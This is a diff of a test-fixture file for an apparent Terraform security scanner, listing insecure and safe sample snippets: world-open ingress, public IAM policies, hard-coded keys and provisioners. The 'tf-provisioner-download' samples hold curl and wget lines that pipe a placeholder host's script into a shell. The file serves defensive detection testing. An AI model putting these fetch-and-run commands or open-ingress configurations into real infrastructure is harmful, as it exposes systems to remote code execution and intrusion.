@@ -28,8 +28,7 @@ BAD = {
         'resource "aws_security_group" "a" {\n  dynamic "ingress" {\n    for_each = [1]\n    content {\n      from_port = 5432\n'
         '      to_port = 5432\n      protocol = "tcp"\n      ipv6_cidr_blocks = ["::/0"]\n    }\n  }\n}',
         'resource "azurerm_network_security_rule" "a" {\n  direction = "Inbound"\n  access = "Allow"\n'
-        '  source_address_prefix = "*"\n'
-        '  destination_port_range = "3389"\n}',
+        '  source_address_prefix = "*"\n  destination_port_range = "3389"\n}',
         'resource "azurerm_network_security_group" "a" {\n  security_rule {\n    direction = "Inbound"\n    access = "Allow"\n'
         '    source_address_prefix = "Internet"\n    destination_port_ranges = ["80", "22"]\n  }\n}',
         'resource "google_compute_firewall" "a" {\n  source_ranges = ["0.0.0.0/0"]\n  allow {\n    protocol = "tcp"\n'
@@ -44,8 +43,7 @@ BAD = {
     ),
     "tf-iam-public": (
         'resource "google_storage_bucket_iam_member" "a" {\n  member = "allUsers"\n  role = "roles/storage.objectViewer"\n}',
-        'data "aws_iam_policy_document" "a" {\n  statement {\n    principals {\n      type = "*"\n'
-        '      identifiers = ["*"]\n    }\n'
+        'data "aws_iam_policy_document" "a" {\n  statement {\n    principals {\n      identifiers = ["*"]\n    }\n'
         '    actions = ["s3:GetObject"]\n    resources = ["x"]\n  }\n}',
         'resource "aws_s3_bucket_policy" "a" {\n  policy = jsonencode({Statement = [{Effect = "Allow"\n'
         '  Principal = {AWS = "*"}, Action = "s3:*", Resource = "x"}]})\n}',
@@ -53,8 +51,7 @@ BAD = {
     "tf-provisioner-download": (
         'resource "aws_instance" "a" {\n  provisioner "remote-exec" {\n    inline = [\n      "set -e",\n'
         '      "curl https://x.example | sudo bash",\n    ]\n  }\n}',
-        'resource "aws_instance" "a" {\n  user_data = <<-EOT\n    #!/bin/bash\n'
-        "    wget -qO- https://${var.host}/i | sh\n  EOT\n}",
+        'resource "aws_instance" "a" {\n  user_data = <<-EOT\n    wget -qO- https://${var.host}/i | sh\n  EOT\n}',
     ),
     "tf-secret-literal": (
         'provider "aws" {\n  secret_key = "wJalrXUtnFEM' + 'IK7MDENG"\n}',
@@ -96,8 +93,7 @@ GOOD = {
         'resource "aws_security_group" "a" {\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n'
         "    cidr_blocks = var.admins\n  }\n}",
         'resource "azurerm_network_security_rule" "a" {\n  direction = "Inbound"\n  access = "Deny"\n'
-        '  source_address_prefix = "*"\n'
-        '  destination_port_range = "*"\n}',
+        '  source_address_prefix = "*"\n  destination_port_range = "*"\n}',
         'resource "google_compute_firewall" "a" {\n  source_ranges = ["0.0.0.0/0"]\n  allow {\n    protocol = "icmp"\n  }\n}',
     ),
     "tf-secret-literal": (
